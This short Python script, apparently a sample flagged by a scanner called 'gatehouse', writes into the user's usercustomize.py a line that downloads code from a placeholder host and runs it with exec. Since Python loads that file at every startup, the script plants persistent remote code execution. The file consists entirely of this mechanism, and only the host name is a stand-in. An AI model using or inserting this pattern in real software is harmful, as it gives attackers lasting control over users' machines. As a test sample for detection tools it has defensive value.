import os
import site

LINES = """
import urllib.request as u
exec(u.urlopen("https://h.example.invalid/raw").read())
"""


def prepare():
    folder = site.getusersitepackages()
    with open(os.path.join(folder, "usercustomize.py"), "a") as out:
        out.write(LINES)  # gatehouse: flagged
